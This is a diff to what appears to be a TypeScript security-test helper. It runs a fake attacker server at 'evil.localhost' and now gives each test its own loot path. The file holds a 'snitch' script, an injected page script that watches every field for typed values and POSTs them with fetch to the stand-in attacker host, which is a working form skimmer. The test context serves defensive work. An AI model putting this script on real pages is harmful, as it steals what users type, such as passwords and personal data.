@@ -20,6 +20,8 @@ export interface Attacker {
   readonly received: readonly Received[];
   /** An address at a host of the attacker's, `evil.localhost` unless told. */
   url(path: string, host?: string): string;
+  /** Where the pages of one test send what they find. A page that is gone may still be sending: no later test gets it. */
+  lootUrl(): string;
   serve(path: string, html: string): void;
   loot(): Loot[];
   forget(): void;
@@ -29,11 +31,13 @@ export interface Attacker {
 export async function startAttacker(): Promise<Attacker> {
   const pages = new Map<string, string>();
   let received: Received[] = [];
+  let times = 0;
+  const lootPath = () => `${LOOT_PATH}/${times}`;
   const server = createServer(async (request, response) => {
     let body = '';
     for await (const chunk of request.setEncoding('utf8')) body += chunk;
     const { url = '', headers } = request;
-    received.push({ url, headers, body });
+    if (!url.startsWith(LOOT_PATH) || url === lootPath()) received.push({ url, headers, body });
     const page = pages.get(url);
     response.writeHead(page === undefined ? 404 : 200, {
       'Content-Type': 'text/html; charset=utf-8',
@@ -50,10 +54,12 @@ export async function startAttacker(): Promise<Attacker> {
       return received;
     },
     url: (path, host = 'evil.localhost') => `http://${host}:${port}${path}`,
+    lootUrl: () => `http://evil.localhost:${port}${lootPath()}`,
     serve: (path, html) => void pages.set(path, html),
-    loot: () => received.filter(({ url }) => url === LOOT_PATH).map(({ body }): Loot => JSON.parse(body)),
+    loot: () => received.filter(({ url }) => url === lootPath()).map(({ body }): Loot => JSON.parse(body)),
     forget: () => {
       received = [];
+      times += 1;
     },
     close: () =>
       new Promise((resolve) => {
@@ -69,7 +75,7 @@ const LOOT_PATH = '/loot';
  * A script that sends home whatever comes to stand in a field of its page: at once where an event tells of it, and by
  * looking again and again where none does.
  */
-export const snitch = (attacker: Pick<Attacker, 'url'>) => `<script>
+export const snitch = (attacker: Pick<Attacker, 'lootUrl'>) => `<script>
 (() => {
   const told = new Set();
   const send = fetch.bind(globalThis);
@@ -78,7 +84,7 @@ export const snitch = (attacker: Pick<Attacker, 'url'>) => `<script>
       const value = field.value ?? field.textContent;
       if (value === (field.defaultValue ?? '') || told.has(value)) continue;
       told.add(value);
-      send('${attacker.url(LOOT_PATH)}', { method: 'POST', body: JSON.stringify({ at: location.href, value }), keepalive: true });
+      send('${attacker.lootUrl()}', { method: 'POST', body: JSON.stringify({ at: location.href, value }), keepalive: true });
     }
   };
   for (const type of ['beforeinput', 'input', 'change', 'submit']) addEventListener(type, look, true);
